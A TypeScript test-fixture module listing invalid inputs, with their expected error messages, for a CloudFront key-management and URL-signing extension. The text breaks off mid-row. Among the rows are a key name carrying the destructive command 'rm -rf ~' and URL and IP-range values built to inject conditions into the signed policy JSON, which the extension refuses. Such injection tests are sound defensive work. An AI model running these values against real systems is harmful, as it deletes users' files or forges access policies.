// Bad inputs across the product, each with the exact message the user gets. The integration suite
// (badInputs.test.ts) runs every row against the real extension and moto and checks that nothing was
// created in CloudFront or stored (or lost) locally; scripts/renderErrorsDoc.mjs renders the same rows
// into docs/errors.md, so a user can look up any message. No `vscode` here: the unit suite reads it too.
//
// `{name}` in args and messages stands for a value of the test's fixture (ids, domains, generated
// PEMs). The tests put in the real values; the documentation shows EXAMPLES instead.

export interface BadInput {
  /** What is wrong, in a few words. */
  readonly case: string;
  readonly command: string;
  /** The options object the command is called with (automation, other extensions, tests). */
  readonly args: unknown;
  readonly expect: Expectation;
  /**
   * What else the row needs: no editor open, a document with a URL open, CloudFront not answering at
   * all, or CloudFront answering AccessDenied to the extension's UpdateDistribution calls;
   * badHostAddresses: the user setting cloudfront.hostAddresses maps {domain} to no address.
   */
  readonly setup?: 'noEditor' | 'document' | 'noAnswer' | 'updateDenied' | 'bucketForbidden' | 'badHostAddresses';
}

export type Expectation =
  /**
   * The command rejects with this message, naming this argument (UserError / SigningError `input`).
   * `unexpected`: the error is not one of ours but passes through as it is (its name, e.g. TypeError):
   * a person then sees "Unexpected error: <name>: <message>".
   */
  | { readonly rejects: string; readonly input?: string; readonly unexpected?: string }
  /** Diagnose Signed URL answers with findings; this is the first error among them. */
  | { readonly finding: { readonly code: string; readonly message: string } }
  /**
   * The command does what was asked; `succeeds` says what the user sees, for the documentation.
   * `policyResource`: the Resource of the signed policy (URL or cookies), as browsers send the URLs it matches.
   */
  | { readonly succeeds: string; readonly policyResource?: string };

/** What the documentation shows for each `{name}`. */
export const EXAMPLES: Readonly<Record<string, string>> = {
  domain: 'd111111abcdef8.cloudfront.net',
  upperDomain: 'D111111ABCDEF8.CLOUDFRONT.NET',
  deployingDomain: 'd222222abcdef8.cloudfront.net',
  streamDomain: 'd333333abcdef8.cloudfront.net',
  streamDistributionId: 'E2EXAMPLESTRM',
  distributionId: 'E1EXAMPLE0DIST',
  openDistributionId: 'E2OPEN0EXAMPLE',
  bucket: 'media-private',
  signerKeyId: 'K2JCJMDEHXQW5F',
  signerKeyName: 'media-signer',
  signerGroupName: 'media-signers',
  otherGroupName: 'partner-signers',
  fullGroupId: '0a1b2c3d-full-group',
  fullGroupName: 'full-group',
  socketTimeoutMs: '15000',
  longName: '<129 characters>',
  longPath: '<8,200 characters>',
  longSignedLength: '8644',
  quotePosition: '44',
  profiles: 'default, dev',
  dsaPem: '<a DSA private key PEM>',
  rsa1024Pem: '<an RSA 1024-bit private key PEM>',
  rsa512Pem: '<an RSA 512-bit private key PEM>',
  p384Pem: '<an ECDSA P-384 private key PEM>',
  ed25519Pem: '<an Ed25519 private key PEM>',
  publicPem: '<an RSA public key PEM (SPKI)>',
  encryptedPem: '<an encrypted private key PEM (PKCS#8)>',
  emptyPassphrasePem: '<a private key PEM (PKCS#8) encrypted with an empty passphrase>',
  indentedPem: '<an RSA 2048-bit private key PEM of another key, each line indented by four spaces>',
  strangerPem: '<an RSA 2048-bit private key PEM of another key>',
  signedUrl: 'https://d111111abcdef8.cloudfront.net/paid/a.mp4?Expires=…&Signature=…&Key-Pair-Id=K2JCJMDEHXQW5F',
  rsaKmsKeyId: '1234abcd-12ab-34cd-56ef-1234567890ab',
  symmetricKmsKeyId: '0987dcba-09fe-87dc-65ba-ab0987654321',
  p384KmsKeyId: '5f0c1d2e-3a4b-4c5d-8e9f-a0b1c2d3e4f5',
  disabledKmsKeyId: '6a1b2c3d-4e5f-4a6b-9c7d-e8f9a0b1c2d3',
  pendingKmsKeyId: '7b2c3d4e-5f6a-4b7c-8d9e-f0a1b2c3d4e5',
  pendingDeletionDate: '2026-12-08T09:30:00.000Z',
  existingSecretName: 'cloudfront/media-signer',
  kmsSignerKeyId: 'K3KMSEXAMPLE01',
  kmsSignerAlias: 'alias/cloudfront/media-kms-signer',
  kmsKeyId: 'arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab',
  kmsLinkedKeyId: 'K3KMSLINKEDEX1',
  rsa3072KmsKeyId: 'arn:aws:kms:us-east-1:123456789012:key/4234abcd-12ab-34cd-56ef-1234567890ab',
  noPemSecret: 'cloudfront/not-a-key',
  stringParameter: '/cloudfront/plain-text',
  secretLinkedKeyId: 'K4SECRETLINKED',
  linkedSecretArn: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:cloudfront/media-AbCdEf',
  tamperedUrl: 'https://d111111abcdef8.cloudfront.net/paid/b.mp4?Expires=…&Signature=<of /paid/a.mp4>&Key-Pair-Id=K2JCJMDEHXQW5F',
  // Buckets whose policies Protect refuses to change (names of one length: the size in the message is exact).
  bigPolicyBucket: 'bad-policy-big-1733400000000',
  numberPolicyBucket: 'bad-policy-num-1733400000000',
  duplicatePolicyBucket: 'bad-policy-dup-1733400000000',
};

const FUTURE = '2099-01-01T00:00:00Z';
const SUPPORTED_KEYS = 'CloudFront accepts RSA keys of 1024 bits or more (2048 for key groups) and ECDSA P-256 (prime256v1) keys';
const NOT_THE_PUBLIC_HALF = { rejects: 'publicKeyId: public key {signerKeyId} in CloudFront is not the public half of this private key.', input: 'publicKeyId' };
/** Signing for /other/*, whose key group holds only a public key whose private half is nowhere here. */
const NO_KEY_FOR_OTHER =
  'No key in this window can sign for {distributionId}, behavior /other/*: it trusts the key groups {otherGroupName}, and the private key of none of their public keys is in this window. Create one with "CloudFront: Create Key Pair" (distributionId {distributionId}, pathPatterns ["/other/*"]), import its private key with "CloudFront: Import Private Key", or link a key kept in AWS with "CloudFront: Link Key Kept in AWS".';
const NAME_RULE = 'Use up to 128 letters, digits, hyphens and underscores';
const KEY_STORAGE_RULE = "keyStorage must be 'local' (VS Code's secret storage), 'kms' (AWS KMS) or 'secretsManager' (AWS Secrets Manager).";

const createKeyPair = 'cloudfront.createKeyPair';
const importPrivateKey = 'cloudfront.importPrivateKey';
const signUrl = 'cloudfront.signUrl';
const signCookies = 'cloudfront.signCookies';
const signSelection = 'cloudfront.signSelection';
const chooseProfile = 'cloudfront.chooseProfile';
const diagnoseUrl = 'cloudfront.diagnoseUrl';
const linkKey = 'cloudfront.linkKey';
const exportPrivateKey = 'cloudfront.exportPrivateKey';
const planStream = 'cloudfront.planStream';
const signStream = 'cloudfront.signStream';
const checkPlayback = 'cloudfront.checkPlayback';

const paidUrl = 'https://{domain}/paid/a.mp4';
const sign = (extra: Record<string, unknown>) => ({ url: paidUrl, keyPairId: '{signerKeyId}', expires: FUTURE, copy: false, ...extra });

/** Every command refuses an options object of the wrong shape, naming the option at fault. */
const exportInfrastructure = 'cloudfront.exportInfrastructure';
const LANGUAGES = 'typescript, javascript, python, go, csharp, java';
const KEY_SOURCES = "keySource must be { kind: 'env', variable } | { kind: 'file', path } | { kind: 'kms', keyId } | { kind: 'secretsManager', secretId } | { kind: 'ssm', parameterName }.";
const PRIVATE_KEYS = "privateKeys must map public key ids to { kind: 'local' } | { kind: 'kms', keyId } | { kind: 'secretsManager', secretId } | { kind: 'ssm', parameterName }.";
/** A Generate Signing Code row. */
const codegenRow = (what: string, args: unknown, rejects: string, input: string): BadInput => ({ case: what, command: 'cloudfront.generateSigningCode', args, expect: { rejects, input } });

const NO_OPTIONS = 'This command takes no options object: call it without arguments, or with its tree row.';
const WRONG_SHAPE: readonly BadInput[] = [
  {
    command: createKeyPair,
    args: { name: 'key-misspelt', algorithm: 'ECDSA_P256', keygroupName: 'group-misspelt' },
    rejects: 'keygroupName is not an option of this command; it takes name, algorithm, keyGroupName, keyGroupId, distributionId, pathPatterns, keyStorage, kmsKeyId, secretName, secretKmsKeyId.',
    input: 'keygroupName',
  },
  {
    command: importPrivateKey,
    args: { privateKey: '{strangerPem}', name: 'imported-misspelt' },
    rejects: 'privateKey is not an option of this command; it takes pem, passphrase, publicKeyId, name.',
    input: 'privateKey',
  },
  {
    command: 'cloudfront.exportPublicKey',
    args: { publicKeyId: '{signerKeyId}', file: '/tmp/public.pem' },
    rejects: 'file is not an option of this command; it takes publicKeyId, uri.',
    input: 'file',
  },
  {
    command: 'cloudfront.exportPrivateKey',
    args: { keyPairId: '{signerKeyId}' },
    rejects: 'keyPairId is not an option of this command; it takes publicKeyId, uri, secretName, secretKmsKeyId, deleteLocalCopy.',
    input: 'keyPairId',
  },
  { command: 'cloudfront.deleteLocalKey', args: { publicKeyId: 7 }, rejects: 'publicKeyId must be a string.', input: 'publicKeyId' },
  { command: 'cloudfront.deletePublicKey', args: { id: '{signerKeyId}' }, rejects: 'id is not an option of this command; it takes publicKeyId, deleteKmsKey, deleteSecret.', input: 'id' },
  { command: linkKey, args: { keyId: 'alias/media' }, rejects: 'keyId is not an option of this command; it takes publicKeyId, kmsKeyId, secretId, parameterName, name.', input: 'keyId' },
  { command: 'cloudfront.rotateKey', args: { keyGroupId: ['{fullGroupId}'] }, rejects: 'keyGroupId must be a string.', input: 'keyGroupId' },
  {
    command: signUrl,
    args: { url: paidUrl, expiry: FUTURE, copy: false },
    rejects: 'expiry is not an option of this command; it takes url, keyPairId, expires, activeFrom, ipRange, resource, hashAlgorithm, copy.',
    input: 'expiry',
  },
  {
    command: signSelection,
    args: { expires: FUTURE, copy: false },
    rejects: 'copy is not an option of this command; it takes expires, activeFrom, ipRange, resource, hashAlgorithm, keyPairId, baseUrl.',
    input: 'copy',
  },
  { command: signCookies, args: { resource: 'https://{domain}/paid/*', expires: FUTURE, copy: 'no' }, rejects: 'copy must be true or false.', input: 'copy' },
  { command: diagnoseUrl, args: { url: paidUrl, live: 'yes' }, rejects: 'live must be true or false.', input: 'live' },
  {
    command: planStream,
    args: { url: 'https://{streamDomain}/streams/ok.m3u8', source: 'cdn' },
    rejects: 'source must be "origin" (read the S3 bucket) or "live" (read through the distribution).',
    input: 'source',
  },
  { command: signStream, args: { url: 'https://{streamDomain}/streams/ok.m3u8', strategy: 'urls', expires: FUTURE }, rejects: 'strategy must be "cookies" or "signedPlaylists".', input: 'strategy' },
  { command: checkPlayback, args: { url: 'https://{streamDomain}/streams/ok.m3u8', maxRequests: 0 }, rejects: 'maxRequests must be at least 1.', input: 'maxRequests' },
  { command: chooseProfile, args: { name: 'dev' }, rejects: 'name is not an option of this command; it takes profile.', input: 'name' },
  { command: 'cloudfront.ssoLogin', args: { profile: 42 }, rejects: 'profile must be a string.', input: 'profile' },
  {
    command: 'cloudfront.generateSigningCode',
    args: { publicKeyId: '{signerKeyId}', lang: 'python' },
    rejects: 'lang is not an option of this command; it takes publicKeyId, language, kind, keySource, example.',
    input: 'lang',
  },
  { command: 'cloudfront.exportInfrastructure', args: { distributionId: '{distributionId}', format: 'pulumi' }, rejects: 'format must be one of cloudformation, cdk, terraform.', input: 'format' },
  ...['refresh', 'refreshNode', 'loadMore', 'copyDomain', 'copyBucketPolicy', 'openInConsole', 'showLog'].map((name) => ({
    command: `cloudfront.${name}`,
    args: { distributionId: '{distributionId}' },
    rejects: NO_OPTIONS,
    input: 'options',
  })),
].map(({ command, args, rejects, input }) => ({ case: 'an options object of the wrong shape', command, args, expect: { rejects, input } }));

export const BAD_INPUTS: readonly BadInput[] = [
  // Import Private Key: every wrong kind of PEM.
  {
    case: 'a DSA private key',
    command: importPrivateKey,
    args: { pem: '{dsaPem}', name: 'imported-dsa' },
    expect: { rejects: `privateKey is an unsupported DSA key; ${SUPPORTED_KEYS}.`, input: 'pem' },
  },
  {
    case: 'an RSA 1024-bit key for a key group',
    command: importPrivateKey,
    args: { pem: '{rsa1024Pem}', name: 'imported-1024' },
    expect: {
      rejects:
        'This is an RSA 1024-bit key. CloudFront key groups accept only RSA 2048-bit and ECDSA P-256 (prime256v1) public keys; a 1024-bit key can only be used with a legacy key pair ID (APKA…).',
      input: 'pem',
    },
  },
  {
    case: 'an RSA 512-bit key',
    command: importPrivateKey,
    args: { pem: '{rsa512Pem}', name: 'imported-512' },
    expect: { rejects: `privateKey is a 512-bit RSA key; ${SUPPORTED_KEYS}.`, input: 'pem' },
  },
  {
    case: 'an ECDSA P-384 key',
    command: importPrivateKey,
    args: { pem: '{p384Pem}', name: 'imported-p384' },
    expect: { rejects: `privateKey is an ECDSA key on curve secp384r1; ${SUPPORTED_KEYS}.`, input: 'pem' },
  },
  {
    case: 'an Ed25519 key',
    command: importPrivateKey,
    args: { pem: '{ed25519Pem}', name: 'imported-ed25519' },
    expect: { rejects: `privateKey is an unsupported Ed25519 key; ${SUPPORTED_KEYS}.`, input: 'pem' },
  },
  {
    case: 'a public key instead of the private key',
    command: importPrivateKey,
    args: { pem: '{publicPem}', name: 'imported-public' },
    expect: { rejects: 'privateKey holds a public key or certificate; signing needs the private key.', input: 'pem' },
  },
  {
    case: 'text that is no PEM',
    command: importPrivateKey,
    args: { pem: 'this is not a key', name: 'imported-garbage' },
    expect: { rejects: 'privateKey could not be read as a PEM private key (PKCS#1, PKCS#8 or SEC1).', input: 'pem' },
  },
  {
    case: 'a PEM whose body is garbage',
    command: importPrivateKey,
    args: { pem: '-----BEGIN PRIVATE KEY-----\nbm90IGEga2V5IGF0IGFsbA==\n-----END PRIVATE KEY-----\n', name: 'imported-garbage-body' },
    expect: { rejects: 'privateKey could not be read as a PEM private key (PKCS#1, PKCS#8 or SEC1).', input: 'pem' },
  },
  {
    case: 'an OpenSSH private key',
    command: importPrivateKey,
    args: { pem: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n', name: 'imported-openssh' },
    expect: { rejects: 'privateKey is in OpenSSH format; convert it to PEM first (ssh-keygen -p -m PEM -f <file>).', input: 'pem' },
  },
  {
    case: 'an encrypted key without its passphrase',
    command: importPrivateKey,
    args: { pem: '{encryptedPem}', name: 'imported-encrypted' },
    expect: { rejects: 'privateKey is encrypted; pass its passphrase.', input: 'passphrase' },
  },
  {
    case: 'an encrypted key with the wrong passphrase',
    command: importPrivateKey,
    args: { pem: '{encryptedPem}', passphrase: 'not the passphrase', name: 'imported-encrypted' },
    expect: { rejects: 'The passphrase does not decrypt privateKey.', input: 'passphrase' },
  },
  {
    case: 'two private keys in one PEM',
    command: importPrivateKey,
    args: { pem: '{strangerPem}{encryptedPem}', name: 'imported-two-keys' },
    expect: { rejects: 'privateKey holds 2 private keys one after the other; it would sign with the first without a word. Pass exactly one private key PEM (split the file).', input: 'pem' },
  },
  {
    case: 'a key encrypted with an empty passphrase (read; then checked against the public key named)',
    command: importPrivateKey,
    args: { pem: '{emptyPassphrasePem}', passphrase: '', publicKeyId: '{signerKeyId}' },
    expect: NOT_THE_PUBLIC_HALF,
  },
  {
    case: 'a PEM with indented lines, as in YAML (read; then checked against the public key named)',
    command: importPrivateKey,
    args: { pem: '{indentedPem}', publicKeyId: '{signerKeyId}' },
    expect: NOT_THE_PUBLIC_HALF,
  },
  {
    case: 'no PEM at all',
    command: importPrivateKey,
    args: { name: 'imported-nothing' },
    expect: { rejects: 'pem is required: the private key as PEM text.', input: 'pem' },
  },
  {
    case: 'a PEM that is not text',
    command: importPrivateKey,
    args: { pem: 42 },
    expect: { rejects: 'pem must be a string.', input: 'pem' },
  },
  {
    case: 'a key that is not the private half of the public key named',
    command: importPrivateKey,
    args: { pem: '{strangerPem}', publicKeyId: '{signerKeyId}' },
    expect: NOT_THE_PUBLIC_HALF,
  },
  {
    case: 'a new public key name over 128 characters',
    command: importPrivateKey,
    args: { pem: '{strangerPem}', name: '{longName}' },
    expect: { rejects: `name: ${NAME_RULE}: {longName}`, input: 'name' },
  },
  {
    case: 'a new public key name with spaces and shell text',
    command: importPrivateKey,
    args: { pem: '{strangerPem}', name: 'key; rm -rf ~' },
    expect: { rejects: `name: ${NAME_RULE}: key; rm -rf ~`, input: 'name' },
  },

  // Create Key Pair: names, algorithms, key groups, behaviors.
  {
    case: "a name over 128 characters (CloudFront's limit)",
    command: createKeyPair,
    args: { name: '{longName}', algorithm: 'ECDSA_P256', keyGroupName: 'group-long-name' },
    expect: { rejects: `name: ${NAME_RULE}: {longName}`, input: 'name' },
  },
  {
    case: 'a name with characters CloudFront refuses',
    command: createKeyPair,
    args: { name: 'media signer "2026"', algorithm: 'ECDSA_P256', keyGroupName: 'group-quotes' },
    expect: { rejects: `name: ${NAME_RULE}: media signer "2026"`, input: 'name' },
  },
  {
    case: 'an empty name',
    command: createKeyPair,
    args: { name: '', algorithm: 'ECDSA_P256', keyGroupName: 'group-empty-name' },
    expect: { rejects: 'name: Enter a name for the public key.', input: 'name' },
  },
  {
    case: 'a name that is not text',
    command: createKeyPair,
    args: { name: 7, algorithm: 'ECDSA_P256', keyGroupName: 'group-number-name' },
    expect: { rejects: 'name must be a string.', input: 'name' },
  },
  {
    case: 'the name of a public key that exists',
    command: createKeyPair,
    args: { name: '{signerKeyName}', algorithm: 'ECDSA_P256', keyGroupName: 'group-taken-name' },
    expect: { rejects: 'name: a public key named {signerKeyName} already exists.', input: 'name' },
  },
  {
    case: 'an algorithm CloudFront does not take',
    command: createKeyPair,
    args: { name: 'key-rsa-4096', algorithm: 'RSA_4096', keyGroupName: 'group-rsa-4096' },
    expect: { rejects: 'algorithm must be RSA_2048 or ECDSA_P256.', input: 'algorithm' },
  },
  {
    case: 'both a new and an existing key group',
    command: createKeyPair,
    args: { name: 'key-two-groups', algorithm: 'ECDSA_P256', keyGroupName: 'group-two', keyGroupId: '{fullGroupId}' },
    expect: { rejects: 'Pass either keyGroupName (a new key group) or keyGroupId (an existing one).', input: 'keyGroupName' },
  },
  {
    case: 'no key group',
    command: createKeyPair,
    args: { name: 'key-no-group', algorithm: 'ECDSA_P256' },
    expect: { rejects: 'Pass either keyGroupName (a new key group) or keyGroupId (an existing one).', input: 'keyGroupName' },
  },
  {
    case: 'a key group that does not exist',
    command: createKeyPair,
    args: { name: 'key-missing-group', algorithm: 'ECDSA_P256', keyGroupId: 'no-such-key-group' },
    expect: { rejects: 'keyGroupId: no key group no-such-key-group in this account.', input: 'keyGroupId' },
  },
  {
    case: 'a full key group (5 keys)',
    command: createKeyPair,
    args: { name: 'key-full-group', algorithm: 'ECDSA_P256', keyGroupId: '{fullGroupId}' },
    expect: {
      rejects: "Key group {fullGroupName} already holds 5 of 5 public keys, CloudFront's limit: remove a key from it or choose another group.",
      input: 'keyGroupId',
    },
  },
  {
    case: 'a new key group name over 128 characters',
    command: createKeyPair,
    args: { name: 'key-long-group', algorithm: 'ECDSA_P256', keyGroupName: '{longName}' },
    expect: { rejects: `keyGroupName: ${NAME_RULE}: {longName}`, input: 'keyGroupName' },
  },
  {
    case: 'the name of a key group that exists',
    command: createKeyPair,
    args: { name: 'key-taken-group', algorithm: 'ECDSA_P256', keyGroupName: '{signerGroupName}' },
    expect: { rejects: 'keyGroupName: a key group named {signerGroupName} already exists.', input: 'keyGroupName' },
  },
  {
    case: 'behaviors without a distribution',
    command: createKeyPair,
    args: { name: 'key-no-distribution', algorithm: 'ECDSA_P256', keyGroupName: 'group-no-distribution', pathPatterns: ['/paid/*'] },
    expect: { rejects: 'pathPatterns needs distributionId.', input: 'distributionId' },
  },
  {
    case: 'a distribution without behaviors',
    command: createKeyPair,
    args: { name: 'key-no-patterns', algorithm: 'ECDSA_P256', keyGroupName: 'group-no-patterns', distributionId: '{distributionId}' },
    expect: { rejects: 'pathPatterns must list the path patterns of the behaviors to restrict (* for the default behavior).', input: 'pathPatterns' },
  },
  {
    case: 'a behavior the distribution does not have',
    command: createKeyPair,
    args: { name: 'key-unknown-pattern', algorithm: 'ECDSA_P256', keyGroupName: 'group-unknown-pattern', distributionId: '{distributionId}', pathPatterns: ['/nope/*'] },
    expect: { rejects: 'pathPatterns: distribution {distributionId} has no cache behavior /nope/*; it has /paid/*, /other/*, /kms/*, /linked/*, *.', input: 'pathPatterns' },
  },
  {
    case: 'CloudFront does not answer (every call times out)',
    command: createKeyPair,
    args: { name: 'key-no-answer', algorithm: 'ECDSA_P256', keyGroupName: 'group-no-answer' },
    setup: 'noAnswer',
    expect: { rejects: '@smithy/node-http-handler - the request socket timed out after {socketTimeoutMs} ms of inactivity (configured by client requestHandler).', unexpected: 'TimeoutError' },
  },

  // Sign CloudFront URL: URLs, dates, IP ranges, keys.
  {
    case: 'no URL',
    command: signUrl,
    args: { url: '', expires: FUTURE },
    expect: { rejects: 'url is required: pass the URL the viewer will request.', input: 'url' },
  },
  {
    case: 'a URL with a fragment',
    command: signUrl,
    args: sign({ url: 'https://{domain}/paid/a.mp4#t=10' }),
    expect: {
      rejects:
        'url has a fragment (#...). Clients never send fragments, so CloudFront would check the signature against a different URL; remove it from the URL to sign and add it to the signed URL afterwards if a page needs it.',
      input: 'url',
    },
  },
  {
    case: 'an ftp: URL',
    command: signUrl,
    args: sign({ url: 'ftp://{domain}/paid/a.mp4' }),
    expect: { rejects: 'url uses the scheme ftp; CloudFront signed URLs work only with http, https, ws and wss.', input: 'url' },
  },
  {
    case: 'a URL that is signed already',
    command: signUrl,
    args: sign({ url: '{signedUrl}' }),
    expect: {
      rejects:
        'url already has the query parameter Expires, Signature, Key-Pair-Id, Hash-Algorithm, which CloudFront reserves for signed URLs. Sign the URL without it (remove any earlier signature first).',
      input: 'url',
    },
  },
  {
    case: 'a URL over 8,192 bytes once signed',
    command: signUrl,
    args: sign({ url: 'https://{domain}/paid/{longPath}' }),
    expect: {
      rejects: 'The signed url would be {longSignedLength} bytes; CloudFront accepts at most 8192. Shorten the URL or its query.',
      input: 'url',
    },
  },
  {
    case: 'a URL with a double quote (policy injection)',
    command: signUrl,
    args: sign({ url: 'https://{domain}/paid/a"}]}.mp4' }),
    expect: {
      rejects:
        'url contains a double quote (") at position {quotePosition}. It would be written into the policy JSON, where it could change the policy\'s Resource or conditions, so it is refused rather than escaped. Percent-encode it (for example " as %22) or remove it.',
      input: 'url',
    },
  },
  {
    case: 'text that is no URL',
    command: signUrl,
    args: sign({ url: 'paid/a.mp4' }),
    expect: { rejects: 'url must be an absolute URL such as https://d111111abcdef8.cloudfront.net/video.mp4.', input: 'url' },
  },
  {
    case: 'an expiry in the past',
    command: signUrl,
    args: sign({ expires: '2020-01-01T00:00:00Z' }),
    expect: { rejects: 'expires (2020-01-01T00:00:00.000Z) is in the past: a URL signed with it would be refused at once. Pass a later date.', input: 'expires' },
  },
  {
    case: 'an expiry in milliseconds',
    command: signUrl,
    args: sign({ expires: 4070908800000 }),
    expect: { rejects: 'expires looks like milliseconds (4070908800000): pass epoch seconds or an ISO 8601 date.', input: 'expires' },
  },
  {
    case: 'an expiry in microseconds',
    command: signUrl,
    args: sign({ expires: 4070908800000000 }),
    expect: { rejects: 'expires looks like microseconds (4070908800000000): pass epoch seconds (4070908800) or an ISO 8601 date.', input: 'expires' },
  },
  {
    case: 'an expiry that is not a date',
    command: signUrl,
    args: sign({ expires: 'tomorrow' }),
    expect: { rejects: 'expires is not a date: pass an ISO 8601 string (2026-12-31T23:59:00Z), epoch seconds, or a local date and time (2026-12-31 23:59).', input: 'expires' },
  },
  {
    case: 'a start after the expiry',
    command: signUrl,
    args: sign({ activeFrom: '2099-06-01T00:00:00Z' }),
    expect: { rejects: 'activeFrom (4083955200) must be before expires (4070908800); the URL would never be valid.', input: 'activeFrom' },
  },
  {
    case: 'null as the start',
    command: signUrl,
    args: sign({ activeFrom: null }),
    expect: {
      rejects: 'activeFrom is null: pass an ISO 8601 date or epoch seconds for when the URL starts working, or leave activeFrom out to make it work at once.',
      input: 'activeFrom',
    },
  },
  {
    case: 'null as the IP range',
    command: signUrl,
    args: sign({ ipRange: null }),
    expect: { rejects: 'ipRange must be a string with an IPv4 address or CIDR range, like 192.0.2.10 or 192.0.2.0/24; got null. Leave ipRange out to admit any address.', input: 'ipRange' },
  },
  {
    case: 'a number as the IP range',
    command: signUrl,
    args: sign({ ipRange: 3221225985 }),
    expect: { rejects: 'ipRange must be a string with an IPv4 address or CIDR range, like 192.0.2.10 or 192.0.2.0/24; got number. Leave ipRange out to admit any address.', input: 'ipRange' },
  },
  {
    case: 'an IPv6 range',
    command: signUrl,
    args: sign({ ipRange: '2001:db8::/32' }),
    expect: { rejects: 'ipRange 2001:db8::/32 is IPv6; CloudFront policies accept only IPv4 addresses or ranges (for example 192.0.2.0/24).', input: 'ipRange' },
  },
  {
    case: 'a CIDR prefix over 32',
    command: signUrl,
    args: sign({ ipRange: '192.0.2.0/33' }),
    expect: { rejects: 'ipRange "192.0.2.0/33" is not an IPv4 address or CIDR range; use a form like 192.0.2.10 or 192.0.2.0/24.', input: 'ipRange' },
  },
  {
    case: 'an IP range that tries to add policy conditions',
    command: signUrl,
    args: sign({ ipRange: '192.0.2.0/24"},"DateLessThan":{"AWS:EpochTime":4102444800' }),
    expect: {
      rejects:
        'ipRange contains a double quote (") at position 12. It would be written into the policy JSON, where it could change the policy\'s Resource or conditions, so it is refused rather than escaped. Percent-encode it (for example " as %22) or remove it.',
      input: 'ipRange',
    },
  },
  {
    case: 'a hash algorithm CloudFront does not take',
    command: signUrl,
    args: sign({ hashAlgorithm: 'MD5' }),
    expect: { rejects: 'hashAlgorithm must be "SHA1" or "SHA256".', input: 'hashAlgorithm' },
  },
  {
    case: 'a key with no private key on this machine',
    command: signUrl,
    args: sign({ keyPairId: 'KNOPRIVATEKEY1' }),
    expect: {
      rejects: 'No private key for KNOPRIVATEKEY1 on this machine: create or import it with "CloudFront: Create Key Pair" or "CloudFront: Import Private Key".',
      input: 'keyPairId',
    },
  },
  {
    case: 'a key the behavior does not trust',
    command: signUrl,
    args: sign({ url: 'https://{domain}/other/a.mp4' }),
    expect: { rejects: 'Key {signerKeyId} cannot sign {distributionId}, behavior /other/*: not in a key group that /other/* trusts ({otherGroupName}).', input: 'keyPairId' },
  },
  {
    case: 'a behavior whose key groups hold no key of this window',
    command: signUrl,
    args: { url: 'https://{domain}/other/a.mp4', expires: FUTURE, copy: false },
    expect: { rejects: NO_KEY_FOR_OTHER, input: 'keyPairId' },
  },
  {
    case: 'cookies for a behavior whose key groups hold no key of this window',
    command: signCookies,
    args: { resource: 'https://{domain}/other/*', expires: FUTURE, copy: false },
    expect: { rejects: NO_KEY_FOR_OTHER, input: 'keyPairId' },
  },
  {
    case: 'a URL of a distribution still deploying (InProgress)',
    command: signUrl,
    args: sign({ url: 'https://{deployingDomain}/paid/a.mp4' }),
    expect: {
      succeeds:
        "Signs as for a deployed distribution, without a word about the status: the URL works once CloudFront has deployed the behavior's key group (the Distributions view shows the distribution with a sync icon until then).",
    },
  },

  // Create Signed Cookies, Sign URLs in Selection.
  {
    case: 'no resource',
    command: signCookies,
    args: { expires: FUTURE },
    expect: { rejects: 'resource is required: pass a URL pattern such as https://media.example.com/paid/*.', input: 'resource' },
  },
  {
    case: 'no expiry',
    command: signCookies,
    args: { resource: 'https://{domain}/paid/*', keyPairId: '{signerKeyId}', copy: false },
    expect: { succeeds: 'Signs for one hour from now: without expires, URL, selection and cookies all sign for an hour.' },
  },
  {
    case: 'an output format there is not',
    command: signCookies,
    args: { resource: 'https://{domain}/paid/*', expires: FUTURE, format: 'xml' },
    expect: { rejects: 'format must be one of json, set-cookie, curl.', input: 'format' },
  },
  {
    case: '*.cloudfront.net as the cookie domain',
    command: signCookies,
    args: { resource: 'https://{domain}/paid/*', keyPairId: '{signerKeyId}', expires: FUTURE, format: 'set-cookie', domain: '*.cloudfront.net', copy: false },
    expect: {
      rejects:
        "The cookie domain *.cloudfront.net is not allowed: CloudFront does not accept *.cloudfront.net as a Domain attribute, because cloudfront.net is a public suffix and browsers refuse cookies for it. Use one of the distribution's alternate domain names (for example example.com), or its own domain name such as d111111abcdef8.cloudfront.net.",
      input: 'domain',
    },
  },
  {
    case: 'a public suffix (co.uk) as the cookie domain',
    command: signCookies,
    args: { resource: 'https://downloads.example.co.uk/paid/*', keyPairId: '{signerKeyId}', expires: FUTURE, format: 'set-cookie', domain: 'co.uk', copy: false },
    expect: {
      rejects:
        'The cookie domain co.uk is a public suffix: browsers refuse cookies for it, so viewers would never send them. Use the alternate domain name itself or a parent domain that is yours (example.com for downloads.example.com, example.co.uk for downloads.example.co.uk).',
      input: 'domain',
    },
  },
  {
    case: 'a SameSite value there is not',
    command: signCookies,
    args: { resource: 'https://{domain}/paid/*', keyPairId: '{signerKeyId}', expires: FUTURE, format: 'set-cookie', sameSite: 'lax', copy: false },
    expect: { rejects: 'sameSite must be one of Lax, Strict, None.', input: 'sameSite' },
  },
  // Resource patterns are written as browsers write the URLs they are to match, or refused.
  ...(
    [
      ['a resource with the scheme in capitals', 'HTTPS://{domain}/paid/*', 'https://{domain}/paid/*'],
      ['a resource with the host in capitals', 'https://{upperDomain}/paid/*', 'https://{domain}/paid/*'],
      ['a resource with the default port', 'https://{domain}:443/paid/*', 'https://{domain}/paid/*'],
      ['a resource with dot segments', 'https://{domain}/free/../paid/./*', 'https://{domain}/paid/*'],
      ['a resource with < and > in the path', 'https://{domain}/paid/a<b>/*', 'https://{domain}/paid/a%3Cb%3E/*'],
      ['a resource with { and } in the path', 'https://{domain}/paid/{x}/*', 'https://{domain}/paid/%7Bx%7D/*'],
    ] as const
  ).map(([what, resource, signed]): BadInput => ({
    case: what,
    command: signCookies,
    args: { resource, keyPairId: '{signerKeyId}', expires: FUTURE, copy: false },
    expect: { succeeds: `Signs for the resource ${signed}, as browsers send the URLs it is to match.`, policyResource: signed },
  })),
  {
    case: 'a resource in capitals, for a signed URL',
    command: signUrl,
    args: sign({ resource: 'HTTPS://{upperDomain}:443/paid/*' }),
    expect: { succeeds: 'Signs with the resource https://{domain}/paid/*, as browsers send the URLs it is to match.', policyResource: 'https://{domain}/paid/*' },
  },
  {
    case: 'a resource whose host has a space',
    command: signCookies,
    args: { resource: 'https://media example.com/paid/*', keyPairId: '{signerKeyId}', expires: FUTURE, copy: false },
